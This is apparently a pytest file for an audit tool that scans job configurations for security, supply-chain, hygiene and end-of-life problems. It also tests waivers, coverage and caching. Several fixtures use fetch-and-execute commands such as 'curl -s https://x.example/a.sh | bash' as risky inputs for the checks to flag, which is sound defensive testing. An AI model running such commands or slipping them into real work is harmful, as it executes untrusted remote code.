"""The audit of an inventory: what it counts, keeps, and runs again."""

from __future__ import annotations

from collections import Counter
from dataclasses import replace
from datetime import timedelta

import pytest

from dashboard.audit import facts
from dashboard.audit.check import Check
from dashboard.audit.findings import Audit, Coverage, fields_fingerprint
from dashboard.audit.outcome import SEVERITIES, Failed, NotAssessed, Severity
from dashboard.audit.run import Auditor
from dashboard.audit.settings import AuditSettings
from dashboard.audit.subject import Subject
from dashboard.audit.waivers import apply_waivers, waivers_for, why_lapsed
from tests.dashboard.audit.assessed import CHECKS, NOW, secret, subject
from tests.dashboard.audit.check_rows import ROWS

RISKY = {"user_command": "curl -s https://x.example/a.sh | bash", "user_image_url": "r.example/a"}


def _ids(audit: Audit, number: int) -> list[str]:
    return [finding.check.id for finding in audit.of(number)]


def test_an_audit_says_of_each_configuration_what_each_check_says_of_it_alone() -> None:
    records = [record for name, _, record, _ in ROWS if CHECKS[name].scope == "list"]
    details = [record for name, _, record, _ in ROWS if CHECKS[name].scope == "detail"]
    subjects = [Subject(n, f"c{n}", f"c{n}", record) for n, record in enumerate([*records, *details])]
    subjects = [replace(one, detail=one.record if one.number >= len(records) else None) for one in subjects]
    auditor = Auditor()
    audit = auditor.audit(subjects, NOW)
    together = {check.id for check in auditor.checks if check.id in {"HYG003", "REL005", "SEC004"}}
    reasons: Counter[tuple[str, str]] = Counter()
    for one in subjects:
        alone = {check.id: outcome for check, outcome in auditor.assess(one, NOW) if check.id not in together}
        failed = {name: outcome.message for name, outcome in alone.items() if isinstance(outcome, Failed)}
        assert {f.check.id: f.message for f in audit.of(one.number) if f.check.id not in together} == failed
        reasons.update((name, one.reason) for name, one in alone.items() if isinstance(one, NotAssessed))
    counted = {(n, reason): count for n, all_ in audit.not_assessed.items() for reason, count in all_.items()}
    assert {key: count for key, count in counted.items() if key[0] not in together} == reasons


def test_those_with_the_same_failure_are_the_first_that_are_alike() -> None:
    images = ["r.example/a", "r.example/b", "r.example/b", "r.example/a", "r.example/a"]
    subjects = [subject(number, name=f"c{number}", user_image_url=url) for number, url in enumerate(images)]
    audit = Auditor().audit(subjects, NOW)
    assert audit.alike(0, "SUP003") == [3, 4, 1, 2]
    assert audit.alike(2, "SUP003") == [1, 0, 3, 4]
    assert audit.alike(0, "SEC001") == []


def test_findings_come_the_worst_first_and_can_be_chosen() -> None:
    subjects = [subject(0, **RISKY), subject(1, name="b", secrets=[secret("user_command")], config_desc="d")]
    audit = Auditor().audit(subjects, NOW)
    ranks = [finding.severity.rank for finding in audit]
    assert ranks == sorted(ranks)
    assert audit.finding(0).check.id == "SEC001"
    assert audit.counts()[Severity.CRITICAL] == 1
    assert [SEVERITIES[rank] for rank in audit.worst()] == [Severity.HIGH, Severity.CRITICAL]
    assert {
        audit.finding(int(p)).check.id for p in audit.positions(families=["supply chain"], numbers=[0])
    } == {
        "SUP001",
        "SUP003",
        "SUP004",
    }
    assert audit.clean_share == 0
    assert Auditor().audit([], NOW).clean_share == 1


def test_coverage_says_what_was_there() -> None:
    audit = Auditor().audit([subject(0), subject(1, detail={})], NOW, reported_total=5, complete=False)
    assert audit.coverage == Coverage(2, 5, complete=False, details=1)
    assert audit.coverage.words == "details for 1 of 2"


def test_settings_switch_checks_off_and_set_severities() -> None:
    settings = AuditSettings(switched_off=("HYG001",), severities={"SUP001": Severity.INFO})
    audit = Auditor(settings).audit([subject(**RISKY)], NOW)
    assert "HYG001" not in _ids(audit, 0)
    assert [f.severity for f in audit.of(0) if f.check.id == "SUP001"] == [Severity.INFO]
    assert audit.rules_version != Auditor().audit([], NOW).rules_version


def test_more_details_run_the_checks_of_these_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    auditor, ran = Auditor(), list[int]()
    check = type(CHECKS["REL006"])
    run = check.run
    monkeypatch.setattr(check, "run", lambda self, facts, told: (ran.append(1), run(self, facts, told))[1])
    before = [subject(0, detail={"log_url": ""}), subject(1)]
    auditor.audit(before, NOW)
    after = [before[0], subject(1, detail={"log_url": "/b/log"})]
    again = auditor.audit(after, NOW + timedelta(minutes=1))
    assert len(ran) == 2
    assert list(again) == list(Auditor().audit(after, NOW + timedelta(minutes=1)))
    changed = auditor.audit([subject(0, detail={"log_url": "/b/new"}), after[1]], NOW)
    assert len(ran) == 3 + 2  # and two for the comparison
    assert not len(changed.positions(checks=["REL006"]))


def test_an_auditor_that_has_seen_other_inventories_says_what_a_new_one_says() -> None:
    twins = [subject(n, name=f"c{n}", **{**RISKY, "config_desc": f"d{n % 2}"}) for n in range(3)]
    twins.append(subject(3, name="c3", user_image_url="r.example/b", user_command="python b.py"))
    keyed = [replace(one, secrets=(secret("user_command"),)) for one in twins[:2]]
    edited = [replace(one, record={**one.record, "user_command": "$x"}) for one in twins[:3]]
    detailed = [replace(one, detail={**one.record, "train_url": "/b"}) for one in twins]
    hidden = [replace(one, secrets=(secret("parameter[a].value"),)) for one in detailed]
    auditor = Auditor()
    for whole in (True, False):
        for subjects in (twins, twins[:3], edited, keyed, twins, detailed, hidden, twins, [], twins):
            audit, fresh = (one.audit(subjects, NOW, whole=whole) for one in (auditor, Auditor()))
            assert _said(audit) == _said(fresh)
            assert audit.not_assessed == fresh.not_assessed


def _said(audit: Audit) -> list[tuple[str, int, str]]:
    return [(finding.check.id, finding.number, finding.message) for finding in audit]


def test_many_commands_are_read_in_bounds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(facts, "MAX_COMMANDS", 2)
    monkeypatch.setattr(facts, "MAX_READ", 3)
    commands = ["python a.py", "bash -c '", "curl -s https://x.example | sh", "$x", "python b.py"]
    subjects = [
        subject(n, name=f"c{n}", user_command=c, user_image_url="r/a") for n, c in enumerate(commands)
    ]
    auditor = Auditor()
    first = _said(auditor.audit(subjects, NOW))
    monkeypatch.undo()
    assert first == _said(Auditor().audit(subjects, NOW))
    assert first == _said(auditor.audit([replace(one, record=dict(one.record)) for one in subjects], NOW))


def test_values_that_python_takes_for_equal_are_different_contents() -> None:
    values = (1, True, 1.0, "1", [1], {"a": 1}, [1, 2])
    subjects = [subject(n, name=f"c{n}", create_time=value) for n, value in enumerate(values)]
    audit, alone = Auditor().audit(subjects, NOW), Auditor()
    for one in subjects:
        said = {check.id: outcome for check, outcome in alone.assess(one, NOW)}
        found = [f.message for f in audit.of(one.number) if f.check.id == "HYG005"]
        assert found == ([said["HYG005"].message] if isinstance(said["HYG005"], Failed) else [])
    assert audit.not_assessed["HYG005"] == {"create_time is no whole number": 4}


def test_what_is_kept_ends_with_the_day() -> None:
    auditor = Auditor()
    subjects = [subject(engine_version="PyTorch-1.8.0-python3.11", config_desc="x")]
    assert "EOL001" not in _ids(auditor.audit(subjects, NOW), 0)
    assert "EOL001" in _ids(auditor.audit(subjects, NOW.replace(year=2027)), 0)


def test_a_check_that_crashes_is_told_and_counts_as_nothing_else(monkeypatch: pytest.MonkeyPatch) -> None:
    def crash(_check: Check, *_: object) -> None:
        raise RuntimeError("what was read")

    monkeypatch.setattr(type(CHECKS["HYG001"]), "run", crash)
    audit = Auditor().audit([subject(0), subject(1, name="b")], NOW)
    assert [(one.check, one.error, one.count) for one in audit.crashes] == [("HYG001", "RuntimeError", 2)]
    assert not len(audit.positions(checks=["HYG001"]))


def test_a_fingerprint_changes_with_the_fields_and_with_a_secret_and_with_nothing_else() -> None:
    fields = ("user_command",)
    first = subject(user_command="a ••• (secret key, 40 characters)", secrets=[secret("user_command")])
    same = replace(first, number=3, name="other", record={**first.record, "config_desc": "new"})
    other_secret = replace(first, secrets=(secret("user_command", fingerprint="ff"),))
    other_text = replace(first, record={"user_command": "b"})
    prints = [fields_fingerprint(one, fields) for one in (first, same, other_secret, other_text)]
    assert prints[0] == prints[1]
    assert len(set(prints)) == 3


def _waived(*, days: int) -> tuple[Audit, Audit, Audit]:
    """Return the audit with a waiver, with that after the command was changed, and after it was cured."""
    record = {**RISKY, "config_desc": "d"}
    audit = Auditor().audit([subject(**record)], NOW)
    chosen = [audit.finding(int(place)) for place in audit.positions(checks=["SUP001"])]
    day = (NOW + timedelta(days=days)).date()
    waivers = waivers_for(chosen * 2, "production", reason="known", owner="anna", expires=day)
    assert len(waivers) == 1
    changed = Auditor().audit([subject(**{**record, "user_command": "curl -s https://y.example | sh"})], NOW)
    cured = Auditor().audit([subject(**{**record, "user_command": "python a.py"})], NOW)
    held, moved, gone = (apply_waivers(one, waivers, "production", NOW) for one in (audit, changed, cured))
    other = apply_waivers(audit, waivers, "elsewhere", NOW)
    assert {finding.status for finding in other} == {"open"}
    assert other.unused_waivers == ()
    return held, moved, gone


def test_a_waiver_holds_until_a_field_changes_and_is_told_when_it_accepts_nothing() -> None:
    held, moved, gone = _waived(days=3)
    accepted = [finding for finding in held if finding.status == "accepted"]
    assert [finding.check.id for finding in accepted] == ["SUP001"]
    assert accepted[0].waiver is not None
    assert held.counts()[Severity.HIGH] == 0
    assert SEVERITIES[held.worst()[0]] is Severity.MEDIUM
    lapsed = [finding for finding in moved if finding.status == "lapsed"]
    assert [why_lapsed(finding) for finding in lapsed] == ["what it accepted has changed"]
    assert moved.counts()[Severity.HIGH] == 1
    assert [waiver.check for waiver in gone.unused_waivers] == ["SUP001"]
    assert held.unused_waivers == moved.unused_waivers == ()


def test_a_waiver_lapses_when_it_expires() -> None:
    held, _, _ = _waived(days=-1)
    assert [why_lapsed(finding) for finding in held if finding.status == "lapsed"] == [
        "it expired on 2026-11-26"
    ]


def test_a_waiver_of_a_detail_is_not_called_unused_before_the_details_are_there() -> None:
    audit = Auditor().audit([subject(detail={"log_url": ""})], NOW)
    chosen = [audit.finding(int(place)) for place in audit.positions(checks=["REL006"])]
    waivers = waivers_for(chosen, "p", reason="r", owner="o", expires=NOW.date())
    early = apply_waivers(Auditor().audit([subject()], NOW), waivers, "p", NOW)
    assert early.unused_waivers == ()
    part = apply_waivers(Auditor().audit([], NOW, whole=False), waivers, "p", NOW)
    assert part.unused_waivers == ()
